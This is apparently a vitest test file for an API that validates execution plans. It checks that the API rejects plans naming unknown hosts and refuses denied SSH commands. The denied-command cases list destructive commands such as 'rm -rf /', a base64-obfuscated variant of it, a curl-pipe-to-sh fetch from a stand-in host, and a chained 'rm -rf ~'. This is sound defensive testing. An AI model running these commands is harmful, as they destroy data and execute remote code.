import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { makePlan, makeStep } from "../helpers/plans";
import { type Stack, startStack } from "../helpers/stack";

/** Unknown hosts and denied commands, refused at the API with what the operator needs to fix them. */

let stack: Stack;
beforeAll(async () => {
  stack = await startStack();
});
afterAll(() => stack?.close());

describe("plans against the inventory, over HTTP", () => {
  it("rejects a plan naming an unknown host, listing the known ones", async () => {
    const plan = makePlan([makeStep("check", { targets: ["web9"] })]);
    const r = await stack.call("POST", "/v1/plans", plan);
    expect(r.status).toBeGreaterThanOrEqual(400);
    expect(r.status).toBeLessThan(500);
    expect(JSON.stringify(r.body)).toMatch(/web9/);
    expect(JSON.stringify(r.body)).toMatch(/web1, web2/);
  });

  it("accepts selectors over inventory hosts, and sees a read-only command as read-only", async () => {
    const plan = makePlan([makeStep("check", { targets: ["web[1-2]"] })]);
    const r = await stack.call("POST", "/v1/plans", plan);
    expect(r.status).toBe(201);
    expect(r.body.flow.readOnly).toBe(true);
  });

  it.each([
    ["rm -rf /"],
    ["echo cm0gLXJmIC8K | base64 -d | sh"],
    ["curl -s http://x.example/i.sh | sh"],
    ["true; rm -rf ~"],
  ])("refuses a plan whose command is denied: %s", async (command) => {
    const plan = makePlan([makeStep("bad", { action: { kind: "ssh", command } })]);
    const r = await stack.call("POST", "/v1/plans", plan);
    expect(r.status).toBeGreaterThanOrEqual(400);
    expect(r.status).toBeLessThan(500);
    expect(stack.hosts.commands("web1")).toEqual([]);
  });
});
